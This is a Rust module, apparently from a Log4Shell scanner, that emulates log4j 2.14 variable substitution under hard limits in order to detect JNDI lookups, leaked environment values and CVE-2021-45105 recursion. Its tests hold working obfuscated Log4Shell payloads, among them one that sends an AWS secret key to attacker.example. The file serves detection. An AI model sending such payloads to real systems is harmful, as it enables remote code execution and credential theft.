//! The log4j 2 `StrSubstitutor` grammar: `${...}` with nesting, `$$` escapes, `:-` defaults and
//! recursive substitution of values, evaluated under hard limits because the input is hostile.
//!
//! The rules follow log4j 2.14 (the exploitable versions):
//! - the name between `${` and its matching `}` is substituted first, in a fresh context;
//! - the first `:-` in the substituted name splits off a default value;
//! - a resolved value (or default) is substituted again, and a name that recurs in that chain is
//!   the infinite loop of CVE-2021-45105;
//! - `$${` is an escape: one `$` is dropped and the `${` stays literal;
//! - an unresolvable lookup without default stays in the output as its original text;
//! - a `${` without a matching `}` ends substitution, leaving the rest literal.

use std::cell::Cell;

use super::lookup::{self, Exfiltration, Outcome};

/// Hard limits on one evaluation, all attacker-controlled dimensions.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// Deepest nesting of substitutions (names inside names, values re-substituted).
    pub max_depth: usize,
    /// Lookups evaluated per evaluation, on top of one per `${` in the input.
    pub max_lookups: usize,
    /// Largest intermediate or final string, in bytes.
    pub max_output: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Self {
            max_depth: 48,
            max_lookups: 4096,
            max_output: 256 * 1024,
        }
    }
}

/// Why an evaluation stopped early; each one is a denial-of-service shape.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Abort {
    /// A name recurred in its own resolution chain (CVE-2021-45105).
    Cycle(String),
    /// Nesting went past `Limits::max_depth`.
    Depth,
    /// More lookups than `Limits::max_lookups` allows.
    Lookups,
    /// A string grew past `Limits::max_output`.
    Output,
}

impl std::fmt::Display for Abort {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Abort::Cycle(name) => write!(f, "infinite recursion on `{name}` (CVE-2021-45105)"),
            Abort::Depth => f.write_str("lookup nesting deeper than the limit"),
            Abort::Lookups => f.write_str("more lookups than the limit"),
            Abort::Output => f.write_str("substituted text larger than the limit"),
        }
    }
}

/// One `jndi` lookup met during evaluation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct JndiCall {
    /// The substituted name, e.g. `ldap://evil.example:1389/a`.
    pub name: String,
    /// Victim state the name would carry out.
    pub exfiltration: Vec<Exfiltration>,
}

/// Everything an evaluation found.
#[derive(Debug, Default)]
pub(crate) struct Evaluation {
    /// The substituted text; partial when `abort` is set.
    pub output: String,
    /// Distinct `jndi` lookups, in order of evaluation.
    pub jndi: Vec<JndiCall>,
    /// Set when a limit or a recursion stopped the evaluation.
    pub abort: Option<Abort>,
}

/// Buffers that evaluations reuse instead of allocating them for every candidate line: the
/// close table and its stack, and the strings of substituted names and of the recursion chain.
#[derive(Debug, Default)]
struct Scratch {
    closes: Vec<u32>,
    open: Vec<u32>,
    strings: Vec<String>,
}

/// Most spare strings kept between evaluations; a deeper evaluation allocates the rest.
const MAX_SPARE_STRINGS: usize = 32;

thread_local! {
    /// One thread's evaluations run one after the other. An evaluation takes the scratch out
    /// and puts it back when done, so a nested one would simply start with empty buffers.
    static SCRATCH: Cell<Scratch> = Cell::new(Scratch::default());
}

/// Evaluates `input` as log4j 2 would substitute a logged message.
pub(crate) fn evaluate(input: &str, limits: &Limits) -> Evaluation {
    let mut scratch = SCRATCH.take();
    let opens = fill_close_table(input.as_bytes(), &mut scratch.closes, &mut scratch.open);
    let mut state = State {
        limits,
        // Every `${` written in the input may run once; only what evaluation itself creates
        // (decoded base64, escaped `$${`, defaults) is charged against the limit.
        lookups_left: limits.max_lookups + opens,
        exfiltration: Vec::new(),
        jndi: Vec::new(),
        closes: std::mem::take(&mut scratch.closes),
        spare: std::mem::take(&mut scratch.strings),
    };
    let mut prior = Vec::new();
    let (output, abort) = match state.substitute(input, Some(0), 0, &mut prior) {
        Ok(output) => (output, None),
        Err(abort) => (String::new(), Some(abort)),
    };
    scratch.closes = state.closes;
    scratch.strings = state.spare;
    SCRATCH.set(scratch);
    Evaluation {
        output,
        jndi: state.jndi,
        abort,
    }
}

/// True when every lookup in `input` is plain: no `$` inside (so no nesting and no escape), no
/// `:-` default, not escaped by a `$` before it, closed, and either a `jndi` one or one that
/// resolves to nothing and reads nothing ([`lookup::is_inert`], like `${server.port}`). Log4j
/// leaves such text as it is, so [`evaluate`] would return it unchanged, without an abort,
/// with one `jndi` call (without exfiltration) per distinct name that [`plain_jndi_names`]
/// lists.
///
/// Most attacks are this shape once decoded, and so are most harmless templates; checking it
/// is one pass over the text without the close table, the substituted copy of the text or the
/// values of lookups.
pub(crate) fn is_plain(input: &str, limits: &Limits) -> bool {
    let bytes = input.as_bytes();
    // `evaluate` stops at this size even when nothing changes.
    if bytes.len() > limits.max_output {
        return false;
    }
    let mut pos = 0;
    while let Some(start) = find_open(bytes, pos) {
        if start > 0 && bytes[start - 1] == b'$' {
            return false;
        }
        let name_start = start + 2;
        let Some(end) = memchr::memchr2(b'$', b'}', &bytes[name_start..]).map(|i| name_start + i)
        else {
            return false;
        };
        if bytes[end] == b'$' {
            return false;
        }
        let expression = &bytes[name_start..end];
        let plain = if is_jndi(expression) {
            find_default(expression).is_none()
        } else {
            find_default(expression).is_none() && lookup::is_inert(&input[name_start..end])
        };
        if !plain {
            return false;
        }
        pos = end + 1;
    }
    true
}

/// `jndi:`, in any ASCII case the start of a `jndi` lookup.
const JNDI_PREFIX: &[u8] = b"jndi:";

/// True when the lookup `expression` (without `${` and `}`) starts with `jndi:` in any ASCII case.
fn is_jndi(expression: &[u8]) -> bool {
    expression
        .get(..JNDI_PREFIX.len())
        .is_some_and(|prefix| prefix.eq_ignore_ascii_case(JNDI_PREFIX))
}

/// The names of the `jndi` lookups of text that [`is_plain`] accepts, in order (with repeats).
pub(crate) fn plain_jndi_names(input: &str) -> impl Iterator<Item = &str> {
    let bytes = input.as_bytes();
    let mut pos = 0;
    std::iter::from_fn(move || {
        loop {
            let start = find_open(bytes, pos)?;
            let end = start + 2 + memchr::memchr(b'}', &bytes[start + 2..])?;
            pos = end + 1;
            if is_jndi(&bytes[start + 2..end]) {
                return Some(&input[start + 2 + JNDI_PREFIX.len()..end]);
            }
        }
    })
}

/// Substitutes `name` alone (the inside of `${...}`), for naming what is left unresolved.
pub(crate) fn substitute_name(name: &str, limits: &Limits) -> String {
    let evaluation = evaluate(name, limits);
    if evaluation.abort.is_some() {
        name.to_string()
    } else {
        evaluation.output
    }
}

struct State<'l> {
    limits: &'l Limits,
    lookups_left: usize,
    /// Every exfiltrating lookup met, in order; `JndiCall`s take the ones met inside their name.
    exfiltration: Vec<Exfiltration>,
    jndi: Vec<JndiCall>,
    /// [`close_table`] of the evaluated text, for the names cut out of it.
    closes: Vec<u32>,
    /// Cleared strings to reuse for substituted names and the recursion chain.
    spare: Vec<String>,
}

/// Marks a `${` without a matching `}` in a [`close_table`].
const UNCLOSED: u32 = u32::MAX;

/// For each `${` in `bytes`, the index of its matching `}` (what [`matching_close`] finds),
/// or [`UNCLOSED`]; other entries are unused. One pass with a stack: nested names are cut out
/// of the evaluated text again and again (a `${` nested 48 deep is searched for its `}` 48
/// times), and each search would scan the rest of the text.
#[cfg(test)]
fn close_table(bytes: &[u8]) -> Vec<u32> {
    let (mut closes, mut open) = (Vec::new(), Vec::new());
    fill_close_table(bytes, &mut closes, &mut open);
    closes
}

/// Writes the [`close_table`] of `bytes` into `closes`, with `open` as its stack; both are
/// buffers reused from earlier evaluations. Returns the number of `${` (as [`count_opens`]
/// counts them).
fn fill_close_table(bytes: &[u8], closes: &mut Vec<u32>, open: &mut Vec<u32>) -> usize {
    closes.clear();
    closes.resize(bytes.len(), UNCLOSED);
    open.clear();
    let mut opens = 0;
    let mut i = 0;
    while let Some(offset) = find_dollar_or_close(&bytes[i..]) {
        let at = i + offset;
        if bytes[at] == b'$' {
            if bytes.get(at + 1) == Some(&b'{') {
                open.push(at as u32);
                opens += 1;
                i = at + 2;
            } else {
                i = at + 1;
            }
        } else {
            if let Some(start) = open.pop() {
                closes[start as usize] = at as u32;
            }
            i = at + 1;
        }
    }
    opens
}

/// Below this length a plain loop finds a byte faster than `memchr`, whose setup (choosing
/// the vector routine, aligning) costs more than the search: the names and values an
/// evaluation cuts out and searches again and again are mostly a few bytes long.
const SHORT_TEXT: usize = 32;

/// Index of the first `byte` in `bytes`.
fn find_byte(byte: u8, bytes: &[u8]) -> Option<usize> {
    if bytes.len() < SHORT_TEXT {
        bytes.iter().position(|&b| b == byte)
    } else {
        memchr::memchr(byte, bytes)
    }
}

/// Index of the first `$` or `}` in `bytes`. Obfuscated payloads are dense with both, so the
/// gaps between them are short: a plain loop is cheaper than a `memchr2` per gap.
fn find_dollar_or_close(bytes: &[u8]) -> Option<usize> {
    let near = &bytes[..bytes.len().min(SHORT_TEXT)];
    match near.iter().position(|&b| b == b'$' || b == b'}') {
        Some(at) => Some(at),
        None if bytes.len() > near.len() => {
            memchr::memchr2(b'$', b'}', &bytes[near.len()..]).map(|at| near.len() + at)
        }
        None => None,
    }
}

/// Index of the next `${` at or after `from`.
pub(crate) fn find_open(bytes: &[u8], from: usize) -> Option<usize> {
    find_pair(bytes, from, *b"${")
}

/// Index of the first `:-` in `bytes`, which splits a default off a name.
fn find_default(bytes: &[u8]) -> Option<usize> {
    find_pair(bytes, 0, *b":-")
}

/// Index of the next two-byte `pair` at or after `from`. A `memchr` for the first byte with a
/// look at the next one: cheaper than a substring searcher, which `str::find` builds anew on
/// every call.
fn find_pair(bytes: &[u8], from: usize, [first, second]: [u8; 2]) -> Option<usize> {
    let mut at = from;
    while let Some(offset) = find_byte(first, bytes.get(at..)?) {
        let found = at + offset;
        if bytes.get(found + 1) == Some(&second) {
            return Some(found);
        }
        at = found + 1;
    }
    None
}

/// Number of `${` in `bytes`.
#[cfg(test)]
fn count_opens(bytes: &[u8]) -> usize {
    let (mut count, mut at) = (0, 0);
    while let Some(open) = find_open(bytes, at) {
        count += 1;
        at = open + 2;
    }
    count
}

/// Index of the `}` closing the `${` whose content starts at `from`, counting nested `${`.
fn matching_close(bytes: &[u8], from: usize) -> Option<usize> {
    let mut nested = 0usize;
    let mut i = from;
    while let Some(offset) = memchr::memchr2(b'$', b'}', &bytes[i..]) {
        let at = i + offset;
        if bytes[at] == b'$' {
            if bytes.get(at + 1) == Some(&b'{') {
                nested += 1;
                i = at + 2;
            } else {
                i = at + 1;
            }
        } else if nested == 0 {
            return Some(at);
        } else {
            nested -= 1;
            i = at + 1;
        }
    }
    None
}

impl State<'_> {
    fn substitute(
        &mut self,
        input: &str,
        origin: Option<usize>,
        depth: usize,
        prior: &mut Vec<String>,
    ) -> Result<String, Abort> {
        let mut out = String::with_capacity(input.len());
        self.substitute_into(input, origin, depth, prior, &mut out)?;
        Ok(out)
    }

    /// The `}` matching the `${` at `start` of `bytes`; `origin` is where `bytes` starts in
    /// the evaluated text when it is a piece of it (then the table answers), `None` for
    /// text made during evaluation.
    fn close_of(&self, bytes: &[u8], origin: Option<usize>, start: usize) -> Option<usize> {
        let Some(origin) = origin else {
            return matching_close(bytes, start + 2);
        };
        let close = self.closes[origin + start];
        // A `}` past the end of the piece is not in it: there the `${` is unclosed.
        (close != UNCLOSED && (close as usize) < origin + bytes.len())
            .then(|| close as usize - origin)
    }

    /// Appends the substitution of `input` to `out`. Values are written straight into the
    /// caller's text instead of being built apart and copied: most of an evaluation's cost
    /// was those short-lived strings. Escapes and size limits only look at the bytes this
    /// call appended (its region), as if it had a string of its own.
    fn substitute_into(
        &mut self,
        input: &str,
        origin: Option<usize>,
        depth: usize,
        prior: &mut Vec<String>,
        out: &mut String,
    ) -> Result<(), Abort> {
        if depth > self.limits.max_depth {
            return Err(Abort::Depth);
        }
        let region = out.len();
        let bytes = input.as_bytes();
        let mut copied = 0;
        let mut pos = 0;
        while let Some(start) = find_open(bytes, pos) {
            out.push_str(&input[copied..start]);
            copied = start;
            // The escape is judged on the text as it stands, so a `$` ending an earlier value
            // escapes too; it only counts inside this substitution's own region.
            if out.len() > region && out.as_bytes()[out.len() - 1] == b'$' {
                // Dropping the `$` of `${` keeps exactly one `$` before the `{`, as log4j does.
                copied = start + 1;
                pos = start + 1;
                continue;
            }
            let Some(close) = self.close_of(bytes, origin, start) else {
                break;
            };
            let expression = &input[start + 2..close];
            let expression_origin = origin.map(|origin| origin + start + 2);
            if !self.variable_into(expression, expression_origin, depth, prior, out)? {
                out.push_str(&input[start..=close]);
            }
            if out.len() - region > self.limits.max_output {
                return Err(Abort::Output);
            }
            copied = close + 1;
            pos = close + 1;
        }
        out.push_str(&input[copied..]);
        if out.len() - region > self.limits.max_output {
            return Err(Abort::Output);
        }
        Ok(())
    }

    /// Resolves one `${expression}`, appending its value to `out`; `false` (and nothing
    /// appended) when it stays literal.
    fn variable_into(
        &mut self,
        expression: &str,
        origin: Option<usize>,
        depth: usize,
        prior: &mut Vec<String>,
        out: &mut String,
    ) -> Result<bool, Abort> {
        let leaks_before = self.exfiltration.len();
        if find_byte(b'$', expression.as_bytes()).is_none() {
            return self.resolve_into(expression, leaks_before, depth, prior, out);
        }
        // The name is substituted first, in a fresh context, into a reused string.
        let mut name = self.spare.pop().unwrap_or_default();
        let result = self
            .substitute_into(expression, origin, depth + 1, &mut Vec::new(), &mut name)
            .and_then(|()| self.resolve_into(&name, leaks_before, depth, prior, out));
        self.put_back(name);
        result
    }

    /// Returns a string to the spare ones.
    fn put_back(&mut self, mut string: String) {
        if self.spare.len() < MAX_SPARE_STRINGS {
            string.clear();
            self.spare.push(string);
        }
    }

    /// Resolves the substituted `name_expression` of a `${...}` (with its default), appending
    /// its value to `out`; `false` when it stays literal. `leaks_before` counts the
    /// exfiltrating lookups met before the expression.
    fn resolve_into(
        &mut self,
        name_expression: &str,
        leaks_before: usize,
        depth: usize,
        prior: &mut Vec<String>,
        out: &mut String,
    ) -> Result<bool, Abort> {
        let (name, default) = match find_default(name_expression.as_bytes()) {
            Some(at) => (&name_expression[..at], Some(&name_expression[at + 2..])),
            None => (name_expression, None),
        };
        if prior.iter().any(|p| p == name) {
            return Err(Abort::Cycle(name.to_string()));
        }
        self.lookups_left = self.lookups_left.checked_sub(1).ok_or(Abort::Lookups)?;
        // The most common obfuscation, a case change of a few ASCII letters, is written
        // straight into the text, as `lookup::evaluate` would give it and the general path
        // below would append it.
        if depth < self.limits.max_depth
            && (ascii_case_change_into(name, out) || date_literal_into(name, out))
        {
            return Ok(true);
        }
        let outcome = if default.is_some() {
            lookup::evaluate_with_default(name)
        } else {
            lookup::evaluate(name)
        };
        let resolved = match outcome {
            Outcome::Value(value) => Some(value),
            Outcome::Jndi(jndi_name) => {
                let mut exfiltration: Vec<Exfiltration> = Vec::new();
                for leak in &self.exfiltration[leaks_before..] {
                    if !exfiltration.contains(leak) {
                        exfiltration.push(leak.clone());
                    }
                }
                let call = JndiCall {
                    name: jndi_name,
                    exfiltration,
                };
                if !self.jndi.contains(&call) {
                    self.jndi.push(call);
                }
                None
            }
            // With a default the attacker expects the lookup to miss; without one it leaks.
            Outcome::Unresolved(Some(leak)) if default.is_none() => {
                self.exfiltration.push(leak);
                None
            }
            Outcome::Unresolved(_) => None,
        };
        let value = match (&resolved, default) {
            (Some(value), _) => value.as_str(),
            (None, Some(default)) => default,
            (None, None) => return Ok(false),
        };
        // A value without `${` substitutes to itself and cannot recur, so it needs neither a
        // pass of its own nor a place in the chain; the caller's size check covers it.
        if depth < self.limits.max_depth && find_open(value.as_bytes(), 0).is_none() {
            out.push_str(value);
            return Ok(true);
        }
        let mut link = self.spare.pop().unwrap_or_default();
        link.push_str(name);
        prior.push(link);
        let result = self.substitute_into(value, None, depth + 1, prior, out);
        if let Some(link) = prior.pop() {
            self.put_back(link);
        }
        result.map(|()| true)
    }
}

/// Appends the value of `name` when it is `lower:KEY` or `upper:KEY` (prefix in any ASCII case)
/// with an ASCII `KEY` without `${`: the key in ASCII lower or upper case, which is Java's case
/// mapping for ASCII, and a value that substitutes to itself. `false`, with nothing appended,
/// for any other name.
fn ascii_case_change_into(name: &str, out: &mut String) -> bool {
    const LOWER: &[u8] = b"lower:";
    const UPPER: &[u8] = b"upper:";
    let bytes = name.as_bytes();
    let Some(prefix) = bytes.get(..LOWER.len()) else {
        return false;
    };
    let lower = prefix.eq_ignore_ascii_case(LOWER);
    if !lower && !prefix.eq_ignore_ascii_case(UPPER) {
        return false;
    }
    let key = &name[LOWER.len()..];
    if !key.is_ascii() || find_open(key.as_bytes(), 0).is_some() {
        return false;
    }
    let start = out.len();
    out.push_str(key);
    let value = &mut out.as_mut_str()[start..];
    if lower {
        value.make_ascii_lowercase();
    } else {
        value.make_ascii_uppercase();
    }
    true
}

/// Appends the value of `name` when it is `date:'TEXT'` (prefix in any ASCII case) with a
/// `TEXT` that is not empty and has no quote and no `${`: a date pattern that is one quoted literal formats to the
/// literal. `false`, with nothing appended, for any other name.
fn date_literal_into(name: &str, out: &mut String) -> bool {
    const DATE: &[u8] = b"date:";
    let bytes = name.as_bytes();
    if !bytes
        .get(..DATE.len())
        .is_some_and(|prefix| prefix.eq_ignore_ascii_case(DATE))
    {
        return false;
    }
    let Some(literal) = name[DATE.len()..]
        .strip_prefix('\'')
        .and_then(|rest| rest.strip_suffix('\''))
    else {
        return false;
    };
    // `''` is a quote, not an empty literal.
    if literal.is_empty() || literal.contains('\'') || find_open(literal.as_bytes(), 0).is_some() {
        return false;
    }
    out.push_str(literal);
    true
}

#[cfg(test)]
mod tests {
    use base64::Engine as _;
    use base64::engine::general_purpose::STANDARD;

    use super::*;

    fn eval(input: &str) -> Evaluation {
        evaluate(input, &Limits::default())
    }

    #[test]
    fn reused_buffers_leave_no_trace() {
        let deep = "${${lower:${lower:${lower:j}}}${upper:n}di:ldap://${env:USER}.a.example/x}";
        let fresh = eval("${jndi:ldap://b.example/y}").jndi;
        for _ in 0..3 {
            assert_eq!(eval(deep).jndi[0].name, "ldap://${env:USER}.a.example/x");
            assert_eq!(eval("${jndi:ldap://b.example/y}").jndi, fresh);
            assert!(eval("${${::-${::-$${::-j}}}}").abort.is_some());
            assert_eq!(eval("a${::-b}c").output, "abc");
        }
        let scratch = SCRATCH.take();
        assert!(scratch.strings.len() <= MAX_SPARE_STRINGS);
        assert!(scratch.strings.iter().all(String::is_empty));
    }

    fn jndi_names(input: &str) -> Vec<String> {
        eval(input).jndi.into_iter().map(|call| call.name).collect()
    }

    #[test]
    fn defaults_split_at_the_first_colon_dash() {
        for name in [
            "",
            ":",
            "-",
            ":-",
            "a:b",
            "a:b:-c",
            "::-j",
            "a-:b:-c:-d",
            "x:",
            "é:-ü",
        ] {
            assert_eq!(find_default(name.as_bytes()), name.find(":-"), "{name:?}");
        }
    }

    #[test]
    fn plain_jndi() {
        assert_eq!(
            jndi_names("x ${jndi:ldap://evil.example:1389/a} y"),
            ["ldap://evil.example:1389/a"]
        );
        let evaluation = eval("${jndi:ldap://a/b}");
        assert_eq!(
            evaluation.output, "${jndi:ldap://a/b}",
            "an unresolved lookup stays literal"
        );
    }

    #[test]
    fn nested_case_and_default_obfuscation() {
        assert_eq!(
            jndi_names("${${lower:j}${upper:n}${::-d}i:${lower:l}dap://x.y/z}"),
            ["ldap://x.y/z"]
        );
        assert_eq!(
            jndi_names("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://a.b/c}"),
            ["ldap://a.b/c"]
        );
        assert_eq!(
            jndi_names("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://a/b}"),
            ["ldap://a/b"]
        );
        assert_eq!(jndi_names("${${any:thing:-j}ndi:rmi://h/p}"), ["rmi://h/p"]);
        assert_eq!(
            jndi_names("${${date:'j'}${date:'ndi'}:dns://h}"),
            ["dns://h"]
        );
        assert_eq!(
            jndi_names("${${base64:am5kaQ==}:ldap://h/p}"),
            ["ldap://h/p"]
        );
        assert_eq!(
            jndi_names("${base64:JHtqbmRpOmxkYXA6Ly9oL3B9}"),
            ["ldap://h/p"]
        );
        assert_eq!(
            jndi_names("${${upper:jnd\u{131}}:ldap://h/p}"),
            ["ldap://h/p"]
        );
        assert_eq!(jndi_names("${${:-j}ndi:ldap://h}"), ["ldap://h"]);
    }

    #[test]
    fn defaults_resolve_and_unknowns_stay_literal() {
        assert_eq!(eval("${::-j}").output, "j");
        assert_eq!(eval("${env:X:-j}").output, "j");
        assert_eq!(eval("${any:thing:-x}").output, "x");
        assert_eq!(eval("${date:'j'}").output, "j");
        assert_eq!(
            eval("port ${server.port} home ${HOME}").output,
            "port ${server.port} home ${HOME}"
        );
        assert_eq!(eval("${foo:${lower:X}}").output, "${foo:${lower:X}}");
        assert_eq!(
            eval("price $5 and $$ and $").output,
            "price $5 and $$ and $"
        );
    }

    #[test]
    fn escapes_and_unclosed() {
        assert_eq!(eval("$${lower:X}").output, "${lower:X}");
        assert!(
            eval("$${jndi:ldap://a/b}").jndi.is_empty(),
            "escaped lookups do not run"
        );
        assert_eq!(
            eval("${lower:A} ${unclosed ${lower:B}").output,
            "a ${unclosed ${lower:B}"
        );
    }

    #[test]
    fn exfiltration_inside_jndi_name() {
        let evaluation = eval("${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}");
        let call = &evaluation.jndi[0];
        assert_eq!(
            call.name,
            "dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example"
        );
        assert_eq!(call.exfiltration[0].lookup, "env");
        assert_eq!(call.exfiltration[0].key, "AWS_SECRET_ACCESS_KEY");
        let with_default = eval("${jndi:ldap://${env:X:-y}.a/b}");
        assert!(with_default.jndi[0].exfiltration.is_empty());
        let host = eval("${jndi:ldap://${hostName}.${sys:user.name}.a/b}");
        assert_eq!(host.jndi[0].exfiltration.len(), 2);
    }

    #[test]
    fn cve_2021_45105_self_reference_is_a_cycle() {
        let evaluation = eval("${${::-${::-$${::-j}}}}");
        assert_eq!(evaluation.abort, Some(Abort::Cycle(":".into())));
        assert!(eval("${::-${::-j}}").abort.is_none());
        assert!(
            eval("${${::-j}${::-n}${::-d}${::-i}:x}").abort.is_none(),
            "siblings are no cycle"
        );
    }

    #[test]
    fn limits_stop_hostile_shapes() {
        let deep = format!("{}x{}", "${".repeat(500), "}".repeat(500));
        assert_eq!(eval(&deep).abort, Some(Abort::Depth));
        let small = Limits {
            max_output: 64,
            ..Limits::default()
        };
        let big = format!("${{::-{}}}", "a".repeat(100));
        assert_eq!(evaluate(&big, &small).abort, Some(Abort::Output));
        let few = Limits {
            max_lookups: 2,
            ..Limits::default()
        };
        assert!(
            evaluate(&"${::-a}".repeat(10), &few).abort.is_none(),
            "written lookups are free"
        );
        let amplified = format!("${{base64:{}}}", STANDARD.encode("${::-a}".repeat(10)));
        assert_eq!(evaluate(&amplified, &few).abort, Some(Abort::Lookups));
    }

    #[test]
    fn close_table_agrees_with_matching_close_on_every_piece() {
        let mut texts: Vec<String> = [
            "${${::-${::-$${::-j}}}}",
            "${a ${b }",
            "}}${x}}${${y}${",
            "$${jndi:x}$ ${ $}{ }$",
            "${lower:A} ${unclosed ${lower:B}",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        texts.extend(
            crate::hunt::corpus::generate(5, 56)
                .into_iter()
                .map(|line| line.text),
        );
        for text in &texts {
            let bytes = text.as_bytes();
            let state = State {
                limits: &Limits::default(),
                lookups_left: 0,
                exfiltration: Vec::new(),
                jndi: Vec::new(),
                closes: close_table(bytes),
                spare: Vec::new(),
            };
            // Pieces start where the evaluator cuts names out (after a `${`) and end anywhere.
            let starts = std::iter::once(0).chain(
                (0..bytes.len())
                    .filter(|&i| bytes[i..].starts_with(b"${"))
                    .map(|i| i + 2),
            );
            for from in starts {
                for to in (from..=bytes.len()).filter(|&to| to % 3 == 0 || to == bytes.len()) {
                    let piece = &bytes[from..to];
                    for start in (0..piece.len()).filter(|&i| piece[i..].starts_with(b"${")) {
                        assert_eq!(
                            state.close_of(piece, Some(from), start),
                            matching_close(piece, start + 2),
                            "{text:?} [{from}..{to}] at {start}"
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn plain_jndi_text_evaluates_to_itself() {
        let mut texts: Vec<String> = [
            "${jndi:ldap://a.example/x}",
            "x ${jndi:a} y ${JNDI:b} ${jndi:a}",
            "$${jndi:x}",
            "${jndi:x:-y}",
            "${jndi:a$b}",
            "${jndi:a",
            "${lower:j}",
            "${jndi:ldap://${env:X}}",
            "plain $5 text",
            "${server.port} and ${jndi:a} ${HOME} ${hostName} ${env:USER}",
            "${spring.datasource.url:jdbc:h2:mem:test} ${JNDI:b}",
            "${lower:x} ${jndi:c}",
            "${base64:am5kaQ==} ${jndi:d}",
            "${base64:!!} ${jndi:e} ${x:hostName}",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        texts.extend(
            crate::hunt::corpus::generate(23, 1000)
                .into_iter()
                .map(|line| line.text),
        );
        let mut plain = 0;
        for text in &texts {
            if !is_plain(text, &Limits::default()) {
                continue;
            }
            plain += 1;
            let evaluation = eval(text);
            assert_eq!(evaluation.output, *text);
            assert_eq!(evaluation.abort, None);
            let mut names: Vec<&str> = Vec::new();
            for name in plain_jndi_names(text) {
                if !names.contains(&name) {
                    names.push(name);
                }
            }
            let calls: Vec<(&str, usize)> = evaluation
                .jndi
                .iter()
                .map(|call| (call.name.as_str(), call.exfiltration.len()))
                .collect();
            let expected: Vec<(&str, usize)> = names.iter().map(|name| (*name, 0)).collect();
            assert_eq!(calls, expected, "{text:?}");
        }
        assert!(plain > 100, "{plain}");
        assert!(!is_plain(
            &"${jndi:x}".repeat(9),
            &Limits {
                max_output: 80,
                ..Limits::default()
            }
        ));
    }

    #[test]
    fn ascii_case_changes_are_the_lookup_values() {
        for name in [
            "lower:JNDI",
            "LOWER:J",
            "Upper:ndi",
            "upper:",
            "lower:${x}",
            "lower:$ {x}",
            "upper:\u{131}",
            "lower:\u{130}",
            "lowe:x",
            "lower",
            "lowerx:y",
            "date:'j'",
            "upper:a:b",
        ] {
            let mut out = String::from("pre");
            let appended = ascii_case_change_into(name, &mut out);
            if appended {
                let Outcome::Value(value) = lookup::evaluate(name) else {
                    panic!("{name:?} has a value");
                };
                assert_eq!(out, format!("pre{value}"), "{name:?}");
                assert!(find_open(value.as_bytes(), 0).is_none());
            } else {
                assert_eq!(out, "pre", "{name:?}");
            }
        }
        assert!(!ascii_case_change_into("lower:${x}", &mut String::new()));
        assert!(ascii_case_change_into("UpPeR:x", &mut String::new()));
    }

    #[test]
    fn date_literals_are_the_lookup_values() {
        for name in [
            "date:'j'",
            "DATE:'ndi'",
            "date:''",
            "date:'",
            "date:'it''s'",
            "date:'a'b'",
            "date:'${x}'",
            "date:'$ {x}'",
            "date:j",
            "date:'j",
            "date:yyyy",
            "dat:'j'",
            "date:'\u{131}'",
        ] {
            let mut out = String::from("pre");
            if date_literal_into(name, &mut out) {
                let Outcome::Value(value) = lookup::evaluate(name) else {
                    panic!("{name:?} has a value");
                };
                assert_eq!(out, format!("pre{value}"), "{name:?}");
                assert!(find_open(value.as_bytes(), 0).is_none());
            } else {
                assert_eq!(out, "pre", "{name:?}");
            }
        }
        assert!(date_literal_into("date:'j'", &mut String::new()));
    }

    #[test]
    fn close_table_counts_every_open() {
        for text in ["", "$", "${", "$${", "${${}}", "a${b}${c", "}${${{$}{${"] {
            let (mut closes, mut open) = (Vec::new(), Vec::new());
            let opens = fill_close_table(text.as_bytes(), &mut closes, &mut open);
            assert_eq!(opens, count_opens(text.as_bytes()), "{text:?}");
        }
        let long = "${x}$ pad }".repeat(40);
        let (mut closes, mut open) = (Vec::new(), Vec::new());
        assert_eq!(
            fill_close_table(long.as_bytes(), &mut closes, &mut open),
            count_opens(long.as_bytes())
        );
        for (start, close) in closes.iter().enumerate() {
            if long.as_bytes()[start..].starts_with(b"${") {
                let expected = matching_close(long.as_bytes(), start + 2).map(|at| at as u32);
                assert_eq!(Some(*close).filter(|&c| c != UNCLOSED), expected, "{start}");
            }
        }
    }

    #[test]
    fn names_of_leftovers() {
        assert_eq!(
            substitute_name("en${lower:V}:USER", &Limits::default()),
            "env:USER"
        );
    }
}
